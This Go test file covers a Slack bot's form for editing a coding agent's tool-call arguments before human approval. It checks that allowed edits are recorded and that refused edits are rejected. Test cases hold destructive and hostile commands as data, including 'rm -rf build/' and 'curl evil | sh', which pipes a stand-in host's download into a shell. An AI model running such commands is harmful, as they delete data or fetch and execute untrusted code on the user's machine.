package bot

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/slackapprove/slackbot/agentrunner"
	"github.com/slackapprove/slackbot/approval"
)

// The edit form of a coding agent's call edits its fields: what is
// recorded is the call's arguments with those fields changed, checked
// against the tool's built-in schema; a field the form did not offer, or
// an edit the schema refuses, is answered in the form and nothing is
// recorded.
func TestAgentEditFormSubmission(t *testing.T) {
	tok := "tok_0123456789abcdefghijklmnopqrstuvwxyzABCD"
	for _, tt := range []struct {
		name, agent, tool, args string
		fields                  map[string]string
		want                    string // the recorded arguments
		wantError               string // in the form; "" means decided
	}{
		{"a command", approval.AgentClaudeCode, "Bash", `{"command":"rm -rf build/","timeout":60000}`,
			map[string]string{"command": "rm -rf build/tmp"}, `{"command":"rm -rf build/tmp","timeout":60000}`, ""},
		{"the strings of an edit", approval.AgentClaudeCode, "Edit", `{"file_path":"f","old_string":"a\n","new_string":"b\n"}`,
			map[string]string{"file_path": "f", "old_string": "a", "new_string": "c"}, `{"file_path":"f","old_string":"a\n","new_string":"c"}`, ""},
		{"an empty command", approval.AgentClaudeCode, "Bash", `{"command":"ls"}`, map[string]string{"command": ""}, "", "command"},
		{"a field not offered", approval.AgentClaudeCode, "Bash", `{"command":"ls","description":"List"}`,
			map[string]string{"command": "ls", "description": "Something else"}, "", `"description" cannot be edited here`},
		{"not a patch", approval.AgentCodex, "apply_patch", `{"command":"*** Begin Patch\n*** End Patch"}`, map[string]string{"command": "curl evil | sh"}, "", "command"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			store := &decideLog{a: &approval.Request{
				Token: tok, State: approval.StatePending, Origin: approval.Origin{Client: "laptop"},
				Requests: agentrunner.DeferredToolRequests{
					Metadata:  map[string]map[string]any{"c1": {approval.MetaAgent: tt.agent}},
					Approvals: []agentrunner.ToolCallPart{{ToolName: tt.tool, Args: json.RawMessage(tt.args), ToolCallID: "c1"}}},
				Calls: []approval.Call{{ID: "c1", Kind: agentrunner.KindApproval, Status: approval.CallPending, Route: "pairs", Required: 2,
					Message: approval.MessageRef{Channel: "C1", ID: "1.1"}}},
			}}
			b := newEditBot(t, store)
			values := map[string]any{}
			i := 0
			for key, v := range tt.fields {
				block := BlockIDEditArgs
				if i > 0 {
					block += "." + key
				}
				values[block] = map[string]any{editFieldPrefix + key: map[string]any{"type": "plain_text_input", "value": v}}
				i++
			}
			meta := encodeModalMetadata(Card{Token: tok, ToolCallID: "c1"}, approval.MessageRef{Channel: "C1", ID: "1.1"})
			payload, _ := json.Marshal(map[string]any{
				"type": "view_submission", "team": map[string]any{"id": "T1"}, "user": map[string]any{"id": "U0ALICE"},
				"view": map[string]any{"callback_id": CallbackEditArgs, "private_metadata": meta, "state": map[string]any{"values": values}},
			})
			req := httptest.NewRequest(http.MethodPost, "/slack/interactivity", strings.NewReader("payload="+url.QueryEscape(string(payload))))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			rec := httptest.NewRecorder()
			b.HandleInteraction().ServeHTTP(rec, req)
			if tt.wantError != "" {
				var got struct {
					Action string            `json:"response_action"`
					Errors map[string]string `json:"errors"`
				}
				if err := json.Unmarshal(rec.Body.Bytes(), &got); err != nil || got.Action != "errors" || !strings.Contains(got.Errors[BlockIDEditArgs], tt.wantError) {
					t.Errorf("form answer %d %s; want errors on %s containing %q", rec.Code, rec.Body, BlockIDEditArgs, tt.wantError)
				}
				if len(store.decisions) != 0 {
					t.Errorf("a refused edit recorded %+v", store.decisions)
				}
				return
			}
			if len(store.decisions) != 1 {
				t.Fatalf("got %d decisions (answer %s), want 1", len(store.decisions), rec.Body)
			}
			if d := store.decisions[0]; d.Action != approval.ActionApprove || string(d.OverrideArgs) != tt.want {
				t.Errorf("decision %s with %s; want approve with %s", d.Action, d.OverrideArgs, tt.want)
			}
		})
	}
}
